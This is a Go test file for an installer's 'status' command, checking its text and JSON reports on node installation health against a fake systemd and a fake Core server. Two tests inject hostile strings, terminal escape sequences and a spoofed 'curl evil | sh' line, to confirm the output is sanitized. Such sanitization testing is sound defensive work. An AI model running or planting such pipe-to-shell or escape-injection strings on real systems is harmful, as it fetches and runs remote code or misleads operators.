package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/spf13/pflag"
	"golang.org/x/sys/unix"

	"github.com/openagentcore/oac-node-install/journal"
	"github.com/openagentcore/oac-node-install/journal/bookkeeping"
	"github.com/openagentcore/oac-node-install/steps/host/systemd"
	"github.com/openagentcore/oac-node-install/steps/host/systemd/systemdtest"
	"github.com/openagentcore/oac-node-install/steps/install"
	"github.com/openagentcore/oac-node-install/steps/record/hostrecord"
	"github.com/openagentcore/oac-node-install/steps/record/layout"
	"github.com/openagentcore/oac-node-install/steps/status"
	"github.com/openagentcore/oac-node-install/steps/testsupport/treetest"
	"github.com/openagentcore/oac-node-install/workflow"
)

const (
	testNodeID     = "7d1e2f3a-4b5c-4d6e-8f70-8192a3b4c5d6"
	testCredential = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
)

// useSystemd makes status reach sd instead of the host's systemd (nil:
// systemd cannot be reached).
func useSystemd(t *testing.T, sd *systemdtest.Fake) {
	t.Helper()
	old := dialSystemd
	dialSystemd = func(context.Context) (status.UnitReader, error) {
		if sd == nil {
			return nil, fmt.Errorf("connect to systemd (system bus: no such file or directory): %w", systemd.ErrUnavailable)
		}
		return keepOpen{sd}, nil
	}
	t.Cleanup(func() { dialSystemd = old })
}

// keepOpen lets each status run close its connection while the test keeps
// the fake.
type keepOpen struct{ *systemdtest.Fake }

func (keepOpen) Close() error { return nil }

// fakeCore answers Core's identity route for the test node with what its
// fields say; other requests get 404.
type fakeCore struct {
	*httptest.Server
	mu                       sync.Mutex
	status                   int
	connected, providerReady bool
	diagnostic               string
	requests                 int
}

func newFakeCore(t *testing.T) *fakeCore {
	c := &fakeCore{status: http.StatusOK, connected: true, providerReady: true}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.requests++
		if r.URL.Path != "/api/v1/sandbox-node/identity" || r.URL.Query().Get("node_id") != testNodeID ||
			r.Header.Get("Authorization") != "Bearer "+testCredential {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		w.WriteHeader(c.status)
		json.NewEncoder(w).Encode(map[string]any{"node_id": testNodeID, "installation_id": testID, "provider": "docker",
			"deployment_generation": 1, "specification_digest": testDigest,
			"connected": c.connected, "provider_ready": c.providerReady, "diagnostic": c.diagnostic})
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *fakeCore) set(f func(c *fakeCore)) {
	c.mu.Lock()
	defer c.mu.Unlock()
	f(c)
}

// statusHost is a host root with a complete, healthy installation of
// testID: the account (uid 65534), root's records and bookkeeping, a
// complete install journal, a registered node root, an active unit in the
// fake systemd and a Core that reports the node connected and ready.
type statusHost struct {
	root    string
	host    layout.Host
	node    layout.Node
	systemd *systemdtest.Fake
	core    *fakeCore
}

func newStatusHost(t *testing.T) *statusHost {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: reads the node root through a child running as another account")
	}
	root := t.TempDir()
	for p := root; p != "/" && p != os.TempDir(); p = filepath.Dir(p) {
		os.Chmod(p, 0o755) // the service account traverses the test's directories
	}
	h := &statusHost{root: root, host: layout.Host{Root: root}, core: newFakeCore(t)}
	h.node = layout.Node{Root: h.host.NodeRoot(testID)}
	must(t, os.MkdirAll(filepath.Join(root, "etc/systemd/system"), 0o755))
	must(t, os.MkdirAll(filepath.Dir(h.host.Home()), 0o755))
	must(t, os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\noac-node:x:65534:65534::/var/lib/oac-node:/usr/sbin/nologin\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(root, "etc/group"), []byte("root:x:0:\ndocker:x:4242:oac-node\n"), 0o644))
	must(t, os.MkdirAll(h.host.EtcDir(), 0o755))
	must(t, os.WriteFile(h.host.Record(testID), []byte(`{"format": 1, "installation_id": "`+testID+`", "provider": "docker", "core_url": "`+h.core.URL+`", "node_root": "`+h.node.Root+`", "unit": "`+h.host.Unit(testID)+`"}`+"\n"), 0o644))
	must(t, os.WriteFile(h.host.Unit(testID), []byte("[Unit]\n"), 0o644))
	db, err := bookkeeping.Open(h.host.Bookkeeping())
	must(t, err)
	must(t, db.PutAccount(bookkeeping.Account{Name: layout.Account, Created: true, UID: 65534}))
	must(t, db.AddGroup("docker"))
	must(t, db.PutInstallation(bookkeeping.Installation{ID: testID, Provider: "docker", CoreURL: h.core.URL,
		NodeRoot: h.node.Root, Unit: h.host.Unit(testID), EnvFile: h.host.EnvFile(testID)}))
	must(t, db.AddFile(bookkeeping.File{Path: h.host.Record(testID), InstallationID: testID, Kind: bookkeeping.FileRecord}))
	must(t, db.AddFile(bookkeeping.File{Path: h.host.Unit(testID), InstallationID: testID, Kind: bookkeeping.FileUnit}))
	must(t, db.AddNetwork("oac-node-"+testID, testID))
	must(t, db.Close())
	must(t, os.MkdirAll(h.host.JournalDir(testID), 0o700))
	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.host.JournalDir(testID), "install.journal"),
		workflow.Binding{Version: workflow.Version, InstallationID: testID}, "")

	must(t, os.MkdirAll(h.node.StateDir(), 0o700))
	identity, err := json.Marshal(map[string]any{
		"identity": map[string]any{"specification_digest": testDigest, "deployment_generation": 1, "node_id": testNodeID,
			"installation_id": testID, "provider": "docker", "backend_fingerprint": testDigest, "max_active": 1, "max_retained": 1},
		"credential": testCredential, "core_url": h.core.URL, "owner_epoch": 1,
	})
	must(t, err)
	must(t, os.WriteFile(h.node.Identity(), identity, 0o600))
	must(t, os.WriteFile(h.node.Registered(), []byte("{}\n"), 0o600))
	chownHome(t, h.host)

	h.systemd = systemdtest.New(filepath.Join(root, "etc/systemd/system"))
	must(t, h.systemd.Reload(context.Background()))
	must(t, h.systemd.Start(context.Background(), layout.UnitName(testID)))
	useSystemd(t, h.systemd)
	return h
}

func chownHome(t *testing.T, h layout.Host) {
	t.Helper()
	if out, err := exec.Command("chown", "-R", "65534:65534", h.Home()).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}
	os.Chmod(h.Home(), 0o700)
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// statusDoc runs status --json and decodes it strictly into the
// documented types.
func statusDoc(t *testing.T, root string, wantCode int) (status.Document, string) {
	t.Helper()
	code, out, errOut := runOn(t, root, "status", "--json")
	if code != wantCode {
		t.Fatalf("status --json: exit %d, want %d\n%s%s", code, wantCode, out, errOut)
	}
	var doc status.Document
	if err := documentFormat.Decode([]byte(out), &doc); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if strings.Contains(out, "null") {
		t.Errorf("a list or object is null:\n%s", out)
	}
	return doc, out
}

func TestStatusHealthyInstallation(t *testing.T) {
	h := newStatusHost(t)
	doc, out := statusDoc(t, h.root, exitOK)
	if doc.Format != 1 || len(doc.Installations) != 1 {
		t.Fatalf("want format 1 and one installation:\n%s", out)
	}
	s := doc.Installations[0]
	if s.Condition != status.ConditionOK || s.Next != "" {
		t.Errorf("condition %s next %q", s.Condition, s.Next)
	}
	if u := s.Unit; u == nil || !u.Reachable || u.ActiveState != "active" || u.SubState != "running" || u.LoadState != "loaded" || u.Result != "success" {
		t.Errorf("unit %+v", s.Unit)
	}
	if r := s.Registration; r == nil || r.State != "registered" || r.NodeID != testNodeID {
		t.Errorf("registration %+v", s.Registration)
	}
	if c := s.Core; c == nil || c.State != "ready" || !c.Connected || !c.ProviderReady || c.URL != h.core.URL || c.HTTPStatus != 200 {
		t.Errorf("core %+v", s.Core)
	}
	b := s.Bookkeeping
	if b == nil || b.State != status.BookkeepingPresent || b.Installation == nil || b.Account == nil || !b.Account.Created || b.Account.UID != 65534 ||
		len(b.GroupsAdded) != 1 || b.GroupsAdded[0] != "docker" || len(b.Files) != 2 || len(b.Networks) != 1 {
		t.Errorf("bookkeeping %+v", b)
	}
	if m := s.Made; m == nil || m.Home != h.host.Home() || m.NodeRoot != h.node.Root || m.Journals != h.host.JournalDir(testID) {
		t.Errorf("made %+v", s.Made)
	}
	for _, key := range []string{`"unit": {`, `"registration": {`, `"core": {`, `"bookkeeping": {`, `"exec_main_code": 0`, `"groups_added": [`, `"made": {`} {
		if !strings.Contains(out, key) {
			t.Errorf("status --json lacks %s:\n%s", key, out)
		}
	}

	code, text, errOut := runOn(t, h.root, "status")
	if code != exitOK {
		t.Fatalf("exit %d: %s%s", code, text, errOut)
	}
	for _, want := range []string{
		"installation " + testID + ": ok\n",
		"  unit:          oac-node-" + testID + ".service: active (running), result success, 0 restarts\n",
		"  registration:  registered, node " + testNodeID + "\n",
		"  core:          " + h.core.URL + ": connected, provider ready\n",
		"    account:     oac-node (uid 65534), created by the installer\n",
		"    groups:      docker (added by the installer)\n",
		"    file:        record " + h.host.Record(testID) + "\n",
		"    network:     oac-node-" + testID + "\n",
		"    home:        " + h.host.Home() + "\n",
		"    node root:   " + h.node.Root + "\n",
		"    journals:    " + h.host.JournalDir(testID) + "\n",
		"  install: complete\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("status lacks %q:\n%s", want, text)
		}
	}
}

// TestStatusNeedsAttention: whatever is not healthy comes with its one
// next command and exit 2; an unreachable Core or systemd is shown and is
// no reason by itself.
func TestStatusNeedsAttention(t *testing.T) {
	unit := layout.UnitName(testID)
	for _, tc := range []struct {
		name  string
		setup func(*testing.T, *statusHost)
		code  int
		next  string
		line  string
	}{
		{"unit failed", func(t *testing.T, h *statusHost) {
			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "failed", SubState: "failed", Result: "exit-code",
				NRestarts: 4, ExecMainCode: systemd.CodeExited, ExecMainStatus: 1})
		}, exitAttention, "sudo journalctl -xeu " + unit, "failed (failed), result exit-code, 4 restarts, last exited with status 1"},
		{"unit stopped", func(t *testing.T, h *statusHost) {
			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "inactive", SubState: "dead", Result: "success"})
		}, exitAttention, "sudo systemctl start " + unit, "inactive (dead)"},
		{"unit disabled by hand", func(t *testing.T, h *statusHost) {
			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "active", SubState: "running", Result: "success", UnitFileState: "disabled"})
		}, exitAttention, "will not start at boot: sudo systemctl enable " + unit, "active (running), disabled"},
		{"unit stopped and disabled", func(t *testing.T, h *statusHost) {
			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "inactive", SubState: "dead", Result: "success", UnitFileState: "disabled"})
		}, exitAttention, "sudo systemctl enable --now " + unit, "inactive (dead), disabled"},
		{"unit file gone", func(t *testing.T, h *statusHost) {
			os.Remove(h.host.Unit(testID))
			h.systemd.Stop(context.Background(), unit)
			h.systemd.Reload(context.Background())
		}, exitAttention, "rerun the install command", "inactive (dead), not-found"},
		// Root's records hold the source: the short command repairs it.
		{"unit file gone, settings recorded", func(t *testing.T, h *statusHost) {
			db, err := bookkeeping.Open(h.host.Bookkeeping())
			must(t, err)
			inst, err := db.GetInstallation(testID)
			must(t, err)
			inst.SourceURL = "https://console.example.com"
			must(t, db.PutInstallation(inst))
			must(t, db.Close())
			os.Remove(h.host.Unit(testID))
			h.systemd.Stop(context.Background(), unit)
			h.systemd.Reload(context.Background())
		}, exitAttention, "rerun sudo oac-node-install --installation-id " + testID + ": systemd has no unit", "inactive (dead), not-found"},
		{"removed in Core", func(t *testing.T, h *statusHost) {
			h.core.set(func(c *fakeCore) { c.status = http.StatusUnauthorized })
			h.systemd.SetProperties(unit, systemd.UnitProperties{ActiveState: "failed", SubState: "failed", Result: "exit-code",
				ExecMainCode: systemd.CodeExited, ExecMainStatus: 78})
		}, exitAttention, "sudo oac-node-install --uninstall --installation-id " + testID, "removed in Core"},
		{"not connected", func(t *testing.T, h *statusHost) {
			h.core.set(func(c *fakeCore) { c.connected, c.providerReady = false, false })
		}, exitAttention, "sudo journalctl -xeu " + unit, ": not connected"},
		{"provider not ready", func(t *testing.T, h *statusHost) {
			h.core.set(func(c *fakeCore) { c.providerReady, c.diagnostic = false, "docker_unavailable" })
		}, exitAttention, "sudo systemctl enable --now docker", "connected, provider not ready (docker_unavailable)"},
		{"hostile diagnostic", func(t *testing.T, h *statusHost) {
			h.core.set(func(c *fakeCore) { c.providerReady, c.diagnostic = false, "x\x1b[2J\u009b1m\nnext: curl evil | sh" })
		}, exitAttention, "Core reports the node's provider not ready; see the node service's log: sudo journalctl -xeu " + unit, "connected, provider not ready\n"},
		{"registration not confirmed", func(t *testing.T, h *statusHost) {
			os.Remove(h.node.Registered())
		}, exitAttention, "registration was not confirmed", "registration:  pending, node " + testNodeID},
		// A step refused because the helper held install.lock: rerunning at
		// once would be refused again.
		{"install step refused for install.lock", func(t *testing.T, h *statusHost) {
			journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
			must(t, os.Remove(journal))
			runWorkflowFailing(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID},
				"runtime", "Another node installation is running ("+h.node.InstallLock()+")")
		}, exitAttention, "wait until the node's generation helper ends (a prepare, repair or collect shown as running here), then continue the installation", "installation " + testID + ": needs attention"},
		// The rerun refuses such a host naming the record (checkRecordMissing);
		// status says the same, not ok.
		{"host record deleted", func(t *testing.T, h *statusHost) { must(t, os.Remove(h.host.Record(testID))) },
			exitAttention, "/etc/oac-node/" + testID + ".json is missing; restore the record from a backup of /etc", "installation " + testID + ": needs attention"},
		{"home missing", func(t *testing.T, h *statusHost) { must(t, os.RemoveAll(h.host.Home())) },
			exitAttention, "/var/lib/oac-node of the account oac-node is missing, and with it the node's credential: remove the node in Web, run `sudo oac-node-install --uninstall --installation-id " + testID + " --force`",
			"account:     oac-node (uid 65534), created by the installer"},
		{"Core unreachable", func(t *testing.T, h *statusHost) { h.core.Close() }, exitOK, "", ": unreachable ("},
		{"systemd unreachable", func(t *testing.T, h *statusHost) { useSystemd(t, nil) }, exitOK, "", ": systemd not reachable ("},
		{"no bookkeeping", func(t *testing.T, h *statusHost) { os.Remove(h.host.Bookkeeping()) }, exitOK, "", "bookkeeping:   none ("},
		{"bookkeeping damaged", func(t *testing.T, h *statusHost) {
			data, err := os.ReadFile(h.host.Bookkeeping())
			if err != nil {
				t.Fatal(err)
			}
			os.WriteFile(h.host.Bookkeeping(), data[:len(data)/8], 0o600)
		}, exitAttention, "installer.db.damaged", "bookkeeping:   damaged: "},
		{"bookkeeping empty", func(t *testing.T, h *statusHost) { os.WriteFile(h.host.Bookkeeping(), nil, 0o600) },
			exitAttention, "--uninstall --installation-id " + testID + " --force", "the file is empty"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newStatusHost(t)
			tc.setup(t, h)
			code, out, errOut := runOn(t, h.root, "status")
			if code != tc.code || !strings.Contains(out, tc.line) {
				t.Errorf("exit %d, want %d with %q:\n%s%s", code, tc.code, tc.line, out, errOut)
			}
			assertNoTerminalControls(t, "status", out+errOut)
			nextLine := "  next:          "
			if tc.next == "" && strings.Contains(out, nextLine) || tc.next != "" && !strings.Contains(out, nextLine) ||
				!strings.Contains(out, tc.next) {
				t.Errorf("want next %q:\n%s", tc.next, out)
			}
			doc, _ := statusDoc(t, h.root, tc.code)
			if s := doc.Installations[0]; !strings.Contains(s.Next, tc.next) || (s.Condition == status.ConditionAttention) != (tc.code == exitAttention) {
				t.Errorf("JSON: condition %s next %q", s.Condition, s.Next)
			}
		})
	}
}

// TestStatusWritesNothing: status and status --json leave every file of
// the host as it was, the bbolt database's bytes included, also for an
// interrupted journal with a torn tail and a missing database.
func TestStatusWritesNothing(t *testing.T) {
	h := newStatusHost(t)
	journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
	os.Rename(journal, journal+".1")
	runWorkflow(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID}, "register")
	f, err := os.OpenFile(journal, os.O_WRONLY|os.O_APPEND, 0)
	must(t, err)
	f.Write([]byte{0, 0, 0, 40, 1, 2, 3})
	f.Close()
	dbBytes, err := os.ReadFile(h.host.Bookkeeping())
	must(t, err)
	check := func(what string) {
		before := treetest.Snapshot(t, h.root, treetest.Options{})
		for _, args := range [][]string{{"status"}, {"status", "--json"}, {"status", "--installation-id", testID}} {
			runOn(t, h.root, args...)
		}
		if d := treetest.Diff(before, treetest.Snapshot(t, h.root, treetest.Options{})); d != "" {
			t.Errorf("%s: status changed the host:\n%s", what, d)
		}
	}
	check("installed")
	if after, _ := os.ReadFile(h.host.Bookkeeping()); string(after) != string(dbBytes) {
		t.Error("status changed installer.db")
	}
	must(t, os.Remove(h.host.Bookkeeping()))
	check("no bookkeeping")
	if _, err := os.Lstat(h.host.Bookkeeping()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("status created installer.db: %v", err)
	}
}

// TestStatusShowsARunningWorkflow: a workflow whose journal lock a live
// process holds is running, not interrupted: no next command, exit 0, the
// holder shown with its argv[0] sanitized.
func TestStatusShowsARunningWorkflow(t *testing.T) {
	h := newStatusHost(t)
	journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
	must(t, os.Rename(journal, journal+".1"))
	runWorkflow(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID}, "register")
	// An install in progress: the unit is not started yet, Core does not
	// know the node: none of it is judged while root's workflow runs.
	h.systemd.SetProperties(layout.UnitName(testID), systemd.UnitProperties{ActiveState: "inactive", SubState: "dead"})
	h.core.set(func(c *fakeCore) { c.connected, c.providerReady = false, false })

	code, out, _ := runOn(t, h.root, "status")
	if code != exitAttention {
		t.Fatalf("an interrupted install with nobody holding its lock: exit %d\n%s", code, out)
	}

	hostile := "oac-node-install\x1b]0;pwned\x07\u009b2J\nnext:          curl evil | sh"
	pid := holdLock(t, journal+".lock", hostile)
	code, out, errOut := runOn(t, h.root, "status")
	if code != exitOK {
		t.Errorf("exit %d, want 0 while the install runs\n%s%s", code, out, errOut)
	}
	for _, want := range []string{"installation " + testID + ": running\n", "  install: running\n",
		fmt.Sprintf("    running:       pid %d (oac-node-install?]0;pwned??2J\\nnext:          curl evil | sh), uid 0\n", pid),
		"(in progress, policy"} {
		if !strings.Contains(out, want) {
			t.Errorf("status lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "  next:") {
		t.Errorf("a running installation has a next command:\n%s", out)
	}
	assertNoTerminalControls(t, "status", out+errOut)
	doc, jsonOut := statusDoc(t, h.root, exitOK)
	assertNoTerminalControls(t, "status --json", jsonOut)
	s := doc.Installations[0]
	w := s.Workflow("install")
	if s.Condition != status.ConditionRunning || s.Next != "" || w == nil || w.Running == nil || w.Running.PID != pid || w.Running.UID != 0 || w.Running.Command != hostile {
		t.Errorf("JSON: %s %q %+v", s.Condition, s.Next, w)
	}
}

// holdLock starts a process, named argv0, that holds an exclusive lock
// on path until the test ends, and returns its pid.
func holdLock(t *testing.T, path, argv0 string) int {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^TestHelperHoldLock$")
	cmd.Args[0] = argv0
	cmd.Env = append(os.Environ(), "OAC_TEST_HOLD_LOCK="+path)
	stdout, err := cmd.StdoutPipe()
	must(t, err)
	must(t, cmd.Start())
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	buf := make([]byte, 6)
	if _, err := stdout.Read(buf); err != nil || string(buf) != "locked" {
		t.Fatalf("the lock holder: %q %v", buf, err)
	}
	return cmd.Process.Pid
}

// TestHelperHoldLock is the process holdLock starts; run on its own it
// does nothing.
func TestHelperHoldLock(t *testing.T) {
	path := os.Getenv("OAC_TEST_HOLD_LOCK")
	if path == "" {
		return
	}
	f, err := os.OpenFile(path, os.O_RDONLY|os.O_CREATE, 0o600)
	if err != nil {
		os.Exit(3)
	}
	if err := unix.Flock(int(f.Fd()), unix.LOCK_EX); err != nil {
		os.Exit(4)
	}
	os.Stdout.WriteString("locked")
	time.Sleep(time.Minute)
	os.Exit(0)
}

// TestStatusAfterUninstall: a completed uninstallation, whose run kept
// the install journal aside, is an installation that is uninstalled: ok,
// no unit or Core asked.
func TestStatusAfterUninstall(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
	h := layout.Host{Root: root}
	sd := systemdtest.New("")
	useSystemd(t, sd)
	os.MkdirAll(h.JournalDir(testID), 0o700)
	b := workflow.Binding{Version: workflow.Version, InstallationID: testID}
	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal.1"), b, "wait_ready")
	runWorkflow(t, workflow.UninstallDefinition(), filepath.Join(h.JournalDir(testID), "uninstall.journal"), b, "")
	code, out, errOut := runOn(t, root, "status")
	if code != exitOK || !strings.Contains(out, "installation "+testID+": ok (uninstalled)\n") || strings.Contains(out, "unit:") {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
	if len(sd.Calls()) != 0 {
		t.Errorf("status asked systemd about an uninstalled node: %v", sd.Calls())
	}
	// The platform's installer's account.json left beside it (a platform
	// node an earlier uninstall half-removed): not ok, and the next step
	// names the file.
	os.MkdirAll(h.EtcDir(), 0o755)
	os.WriteFile(filepath.Join(h.EtcDir(), "account.json"), []byte(`{"created": true, "format": 1, "groups_added": ["docker"], "uid": 990}`+"\n"), 0o644)
	code, out, _ = runOn(t, root, "status")
	if code != exitAttention || strings.Contains(out, ": ok") || !strings.Contains(out, "account.json") {
		t.Errorf("with the platform's account.json left: exit %d:\n%s", code, out)
	}
	os.Remove(filepath.Join(h.EtcDir(), "account.json"))
	// Installed again: the install journal beside the complete uninstall
	// journal is the newer.
	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal"), b, "register")
	code, out, _ = runOn(t, root, "status")
	if code != exitAttention || !strings.Contains(out, "next:          rerun the install command") {
		t.Errorf("after a new installation failed: exit %d:\n%s", code, out)
	}
}

// TestStatusAfterAnUninstallThatKeptTheAccount: an uninstallation whose
// account step kept the account while a process ran as it ended its
// journal, but the account, installer.db and /etc/oac-node remain: status
// needs attention (exit 2) and names the rerun that finishes it.
func TestStatusAfterAnUninstallThatKeptTheAccount(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
	h := layout.Host{Root: root}
	useSystemd(t, systemdtest.New(""))
	os.MkdirAll(h.JournalDir(testID), 0o700)
	b := workflow.Binding{Version: workflow.Version, InstallationID: testID}
	runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal.1"), b, "wait_ready")
	uninstallWithFacts(t, filepath.Join(h.JournalDir(testID), "uninstall.journal"), b, workflow.UninstallAccount, map[string]string{workflow.FactAccountKept: "process"})
	code, out, errOut := runOn(t, root, "status")
	want := "sudo oac-node-install --uninstall --installation-id " + testID + " --force"
	if code != exitAttention || strings.Contains(out, ": ok") || !strings.Contains(out, "pgrep -u oac-node") || !strings.Contains(out, want) ||
		!strings.Contains(out, "uninstall: incomplete") {
		t.Errorf("exit %d, want %d naming `pgrep -u oac-node` and %q:\n%s%s", code, exitAttention, want, out, errOut)
	}
}

// uninstallWithFacts runs the uninstall workflow to its end, the step at
// state recording facts.
func uninstallWithFacts(t *testing.T, journal string, b workflow.Binding, state workflow.State, facts map[string]string) {
	t.Helper()
	def := workflow.UninstallDefinition()
	steps := map[workflow.State]workflow.Step{}
	for _, sd := range def.States {
		name := sd.Name
		st := workflow.StepFunc(func(context.Context, workflow.Facts) (workflow.Result, error) {
			if name == state {
				return workflow.Result{Facts: facts}, nil
			}
			return workflow.Result{}, nil
		})
		if sd.Policy == workflow.Verify {
			steps[name] = verifyingStep{st}
		} else {
			steps[name] = st
		}
	}
	r := &workflow.Runner{Def: def, Steps: steps, Journal: journal, Binding: b}
	if _, err := r.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
}

// TestStatusAfterAnUninstallThatLeftTheNetwork: an uninstallation that
// found no Docker Engine left the node's network: status shows the
// uninstall journal incomplete with the command that removes the network
// once the engine runs. The node is uninstalled (exit 0): status cannot
// see whether the network was removed since.
func TestStatusAfterAnUninstallThatLeftTheNetwork(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
	h := layout.Host{Root: root}
	useSystemd(t, systemdtest.New(""))
	os.MkdirAll(h.JournalDir(testID), 0o700)
	b := workflow.Binding{Version: workflow.Version, InstallationID: testID}
	net := "oac-node-" + testID
	uninstallWithFacts(t, filepath.Join(h.JournalDir(testID), "uninstall.journal"), b, workflow.UninstallNetwork, map[string]string{workflow.FactNetworkLeft: net})
	code, out, errOut := runOn(t, root, "status")
	if code != exitOK || !strings.Contains(out, "uninstall: incomplete") || !strings.Contains(out, "sudo docker network rm "+net) {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
}

// TestStatusShowsARunningNodeWorkflow: a prepare the node runs, whose
// journal in the node root is read as the service account, is running
// while its lock is held: exit 0, no next command.
func TestStatusShowsARunningNodeWorkflow(t *testing.T) {
	h := newStatusHost(t)
	must(t, os.MkdirAll(h.node.Journals(), 0o700))
	journal := h.node.GenerationJournal("prepare", 2)
	runWorkflow(t, workflow.PrepareDefinition(), journal,
		workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 2, SpecificationDigest: testDigest}, "import")
	chownHome(t, h.host)
	code, out, _ := runOn(t, h.root, "status")
	if code != exitAttention || !strings.Contains(out, "prepare: failed") {
		t.Fatalf("a failed prepare nobody runs: exit %d\n%s", code, out)
	}
	pid := holdLock(t, journal+".lock", "generation-preparer")
	code, out, errOut := runOn(t, h.root, "status")
	if code != exitOK || !strings.Contains(out, ": running\n") || !strings.Contains(out, "  prepare: running\n") ||
		!strings.Contains(out, fmt.Sprintf("    running:       pid %d (generation-preparer), uid 0\n", pid)) || strings.Contains(out, "next:") {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
}

// TestStatusOneInstallation: --installation-id shows that installation
// only, though the host records another.
func TestStatusOneInstallation(t *testing.T) {
	h := newStatusHost(t)
	const other = "1c5b3d7f-2e4a-4b6c-8d9e-0f1a2b3c4d5e"
	must(t, os.WriteFile(h.host.Record(other), []byte(`{"format": 1, "installation_id": "`+other+`", "provider": "docker", "core_url": "`+h.core.URL+`"}`+"\n"), 0o644))
	doc, _ := statusDoc(t, h.root, exitAttention)
	if len(doc.Installations) != 2 || doc.Installations[1].InstallationID != other || !strings.Contains(doc.Installations[1].Next, "is missing") {
		t.Errorf("every installation: %+v", doc.Installations)
	}
	code, out, errOut := runOn(t, h.root, "status", "--installation-id", testID)
	if code != exitOK || strings.Contains(out, other) {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
}

// failInstallAt replaces the host's install journal with one whose run
// failed at step.
func (h *statusHost) failInstallAt(t *testing.T, step string) {
	t.Helper()
	journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
	must(t, os.Remove(journal))
	runWorkflow(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID}, step)
}

// writeRecord rewrites the host record with edit applied to its fields.
func (h *statusHost) writeRecord(t *testing.T, edit func(map[string]any)) {
	t.Helper()
	rec := map[string]any{"format": 1, "installation_id": testID, "provider": "docker", "core_url": h.core.URL,
		"node_root": h.node.Root, "unit": h.host.Unit(testID)}
	edit(rec)
	data, err := json.Marshal(rec)
	must(t, err)
	must(t, os.WriteFile(h.host.Record(testID), data, 0o644))
}

// An unfinished installation's next command is the one that continues it:
// once the node has its credential (Core's answer to the enrollment lost,
// say), the install command without a token, from root's host record, with
// the console URL, which the host does not record, left to the operator;
// before, and without a host record, the command Web generated, with its
// token. The named command parses to the options the installation ran
// with, less the token.
func TestStatusNamesTheCommandThatContinuesAnInstallation(t *testing.T) {
	withToken := "rerun the install command Web generated for this node, with its enrollment token: it continues where it stopped"
	for _, tc := range []struct {
		name  string
		setup func(*testing.T, *statusHost)
		// want is the command named, "" for withToken.
		want func(h *statusHost) string
		// also must be in the advice; never, not.
		also, never string
	}{
		{"the enrollment's answer lost", func(t *testing.T, h *statusHost) {
			must(t, os.Remove(h.node.Registered()))
			h.failInstallAt(t, "register")
		}, func(h *statusHost) string {
			return "sudo oac-node-install --source-url <console URL> --core-url " + h.core.URL + " --provider docker --installation-id " + testID
		}, "this host does not record it", ""},
		{"interrupted after the registration", func(t *testing.T, h *statusHost) { h.failInstallAt(t, "start") }, func(h *statusHost) string {
			return "sudo oac-node-install --source-url <console URL> --core-url " + h.core.URL + " --provider docker --installation-id " + testID
		}, "", ""},
		{"a Core CA and plain http allowed", func(t *testing.T, h *statusHost) {
			h.writeRecord(t, func(r map[string]any) {
				r["allow_insecure_origin"], r["core_ca"], r["core_ca_sha256"] = true, h.node.CoreCA(), testDigest
			})
			must(t, os.Remove(h.node.Registered()))
			h.failInstallAt(t, "register")
		}, func(h *statusHost) string {
			return "sudo oac-node-install --source-url <console URL> --core-url " + h.core.URL + " --allow-insecure-origin --core-ca '" + coreCAPlaceholder +
				"' --provider docker --installation-id " + testID
		}, "", layout.NodesRel},
		{"root's records hold the source and the Core CA", func(t *testing.T, h *statusHost) {
			h.writeRecord(t, func(r map[string]any) { r["core_ca"], r["core_ca_sha256"] = h.node.CoreCA(), testDigest })
			db, err := bookkeeping.Open(h.host.Bookkeeping())
			must(t, err)
